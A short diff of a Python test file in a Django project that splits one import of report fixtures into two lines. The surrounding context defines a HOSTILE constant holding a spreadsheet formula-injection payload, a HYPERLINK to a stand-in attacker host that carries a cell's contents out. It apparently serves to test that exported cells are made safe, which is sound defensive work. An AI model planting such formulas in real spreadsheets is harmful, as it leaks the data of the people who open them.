@@ -11,7 +11,8 @@ from django.urls import reverse
 from rutan.spreadsheets import safe_cell
 from rutan.workbooks import HEADER_ROW
 from tests.factories import ParticipantFactory
-from tests.rehab.reports_fixture import NOVEMBER, build_known_month
+from tests.rehab.reports_fixture import NOVEMBER
+from tests.rehab.reports_fixture import build_known_month
 
 HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'
 
